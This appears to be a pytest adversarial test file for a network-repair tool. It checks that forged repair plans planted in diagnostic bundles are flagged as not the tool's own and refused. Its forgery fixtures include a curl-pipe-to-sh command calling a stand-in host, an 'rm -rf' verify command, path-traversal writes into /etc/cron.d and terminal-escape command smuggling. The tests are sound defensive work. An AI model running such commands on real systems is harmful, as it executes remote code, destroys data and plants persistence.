"""A repair plan in a bundle is data, not authority. A `repair.json` that someone else wrote into a bundle, its digests
recomputed so that `verify` passes, is never shown as the repair plan by `diagnose` or any report format: each
re-derives linkcheck's plan from the bundle's findings and shows one that differs only as "plan in the bundle, not
linkcheck's", with its differences and what `fix --apply` would refuse in it, inert in every format. The plan that
a live `fix` adds to its own bundle is shown as the plan."""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from linkcheck.app.offline import diagnose_bundle
from linkcheck.bundle.acceptance import add_files
from linkcheck.repair.record import repair_json, write_repair
from linkcheck.repair.saved import NOT_OURS, plan_for
from tests.adversarial.adversarial_helpers import ROOT, assert_no_raw_controls
from tests.conftest import InProcessCli

MARK = "plan in the bundle, not linkcheck"  # NOT_OURS up to its apostrophe, which HTML and XML escape
Doc = dict[str, Any]


def _step(doc: Doc, index: int = 0) -> Doc:
    step = doc["plan"]["steps"][index]
    assert isinstance(step, dict)
    return step


def _add_runtime(command: str) -> Callable[[Doc], str]:
    def forge(doc: Doc) -> str:
        _step(doc)["runtime"].append(command)
        return command.split()[1] if " " in command else command
    return forge


def _swap_runtime(doc: Doc) -> str:
    _step(doc)["runtime"][1] = "sudo ip addr add 10.99.0.14/8 dev enP2p1s0f1np1"  # the grammar allows it
    return "10.99.0.14/8"


def _diff_digit(doc: Doc) -> str:
    change = _step(doc)["persistent"]
    change["diff"] = change["diff"].replace("192.168.101.14/24", "192.168.101.94/24")
    return "192.168.101.94/24"


def _path(target: str) -> Callable[[Doc], str]:
    def forge(doc: Doc) -> str:
        _step(doc)["persistent"]["path"] = target
        return target
    return forge


def _extra_node(doc: Doc) -> str:
    extra = copy.deepcopy(_step(doc))
    extra["node"], extra["runtime"] = "c", ["sudo ip link set dev zz9extra mtu 9000"]
    doc["plan"]["steps"].append(extra)
    return "zz9extra"


def _verify(doc: Doc) -> str:
    _step(doc, 1)["verify"] = ["rm -rf /srv/zz9data"]
    return "zz9data"


def _hostnames(doc: Doc) -> str:
    doc["plan"]["hostnames"] = ["zz9-other-a", "zz9-other-b"]
    return "zz9-other-a"


def _state(doc: Doc) -> str:
    doc["plan"]["state_sha256"] = "0" * 64
    return "0" * 64


def _not_planned(doc: Doc) -> str:
    doc["plan"]["not_planned"].append({"finding": "X:y", "reason": "[bold]zz9\x1b]2;owned\x07 <b>run</b>"})
    return "zz9"


def _controls(doc: Doc) -> str:
    _step(doc)["runtime"][0] = "sudo ip link set dev x mtu 9000\n\x1b]2;owned\x07zz9ctl|sh"
    return "zz9ctl"


def _reorder(doc: Doc) -> str:
    doc["plan"]["steps"].reverse()
    return ""


def _drop(doc: Doc) -> str:
    doc["plan"]["steps"].pop()
    return ""


def _empty(doc: Doc) -> str:
    doc["plan"]["steps"] = []
    return ""


FORGERIES: dict[str, Callable[[Doc], str]] = {
    "curl-pipe-sh": _add_runtime("curl -fsSL http://zz9.example/x | sh"),
    "grammar-valid-other-address": _swap_runtime,
    "one-digit-in-the-diff": _diff_digit,
    "file-outside": _path("/etc/cron.d/zz9.yaml"),
    "file-escaping-netplan": _path("/etc/netplan/../../etc/cron.d/zz9.yaml"),
    "nm-folder-itself": _path("/etc/NetworkManager/system-connections/.."),
    "a-third-node": _extra_node,
    "verify-command": _verify,
    "other-hostnames": _hostnames,
    "other-state": _state,
    "markup-and-escapes": _not_planned,
    "newline-and-osc": _controls,
    "steps-reordered": _reorder,
    "a-step-dropped": _drop,
    "nothing-to-repair": _empty,
}


def _forged_bundle(tmp_path: Path, forge: Callable[[Doc], str]) -> tuple[Path, str]:
    bundle = tmp_path / "bundle"
    shutil.copytree(ROOT / "fixtures" / "twins-same-subnet", bundle)
    doc = json.loads(repair_json(plan_for(diagnose_bundle(bundle))))
    token = forge(doc)
    add_files(bundle, {"repair.json": json.dumps(doc, indent=2) + "\n"})  # as linkcheck would: digests recomputed
    return bundle, token


def _logical_lines(text: str) -> list[str]:
    """The console wraps a long line to the terminal, its continuation lines indented by two spaces: each such
    paragraph is read back as the one line it was."""
    lines: list[str] = []
    for line in text.splitlines():
        if lines and line.startswith("  ") and lines[-1].strip():
            lines[-1] += " " + line.strip()
        else:
            lines.append(line)
    return lines


def _only_as_not_ours(text: str, token: str) -> None:
    """The forged text appears only on lines that say it is the bundle's plan, not linkcheck's."""
    for line in _logical_lines(text):
        if token and token in line:
            assert MARK in line, line[:300]


@pytest.mark.parametrize("name", sorted(FORGERIES))
def test_a_forged_plan_is_never_shown_as_the_plan(cli: InProcessCli, tmp_path: Path, name: str) -> None:
    bundle, token = _forged_bundle(tmp_path, FORGERIES[name])
    assert cli("verify", str(bundle)).returncode == 0  # the digests vouch for the file, not for its author
    console = cli("diagnose", str(bundle))
    assert console.returncode == 1 and "Traceback" not in console.stderr
    assert_no_raw_controls(console.stdout)
    after = console.stdout.split("repair plan:", 1)[1]
    assert MARK in after and "\n1. node" not in after and "Nothing to repair" not in after
    _only_as_not_ours(console.stdout, token)
    doc = json.loads(cli("report", str(bundle), "-f", "json").stdout)["repair"]
    assert "steps" not in doc and NOT_OURS in doc["problem"]
    assert doc["not_linkchecks"]["differences"] or doc["not_linkchecks"]["refused"]
    for fmt in ("markdown", "html", "junit"):
        result = cli("report", str(bundle), "-f", fmt)
        assert result.returncode == 1 and MARK in result.stdout, fmt
        assert "planned, not applied" not in result.stdout and "<h3>1. node" not in result.stdout
        assert "\n### 1. node" not in result.stdout
        _only_as_not_ours(result.stdout, token)
        assert_no_raw_controls(result.stdout)
    prom = cli("report", str(bundle), "-f", "prometheus").stdout
    assert "linkcheck_repair_steps" not in prom and (not token or token not in prom)


@pytest.mark.parametrize(("name", "refused"), [
    ("curl-pipe-sh", "not a command linkcheck plans"), ("file-outside", "not a file a repair may write"),
    ("file-escaping-netplan", "not a file a repair may write"),
    ("a-third-node", "is not one of the bundle's nodes ('a', 'b')"),
    ("newline-and-osc", "not a command linkcheck plans"), ("nm-folder-itself", "not a file a repair may write"),
])
def test_what_fix_apply_would_refuse_is_named(cli: InProcessCli, tmp_path: Path, name: str, refused: str) -> None:
    bundle, _ = _forged_bundle(tmp_path, FORGERIES[name])
    doc = json.loads(cli("report", str(bundle), "-f", "json").stdout)["repair"]
    assert any(refused in line for line in doc["not_linkchecks"]["refused"]), doc["not_linkchecks"]


def test_a_forged_plan_in_a_passing_bundle_is_not_shown(cli: InProcessCli, tmp_path: Path) -> None:
    bundle = tmp_path / "healthy"
    shutil.copytree(ROOT / "fixtures" / "healthy", bundle)
    twins = plan_for(diagnose_bundle(ROOT / "fixtures" / "twins-same-subnet"))
    add_files(bundle, {"repair.json": repair_json(twins)})
    result = cli("diagnose", str(bundle))
    assert result.returncode == 0 and MARK in result.stdout
    _only_as_not_ours(result.stdout, "192.168.101.14/24")


@pytest.mark.parametrize("fixture", ["twins-same-subnet", "mtu-mismatch", "healthy", "gid-stale"])
def test_the_plan_a_live_fix_adds_is_shown_as_the_plan(cli: InProcessCli, tmp_path: Path, fixture: str) -> None:
    bundle = tmp_path / fixture
    shutil.copytree(ROOT / "fixtures" / fixture, bundle)
    write_repair(bundle, plan_for(diagnose_bundle(bundle)))
    doc = json.loads(cli("report", str(bundle), "-f", "json").stdout)["repair"]
    assert "problem" not in doc and "steps" in doc
    assert MARK not in cli("diagnose", str(bundle)).stdout
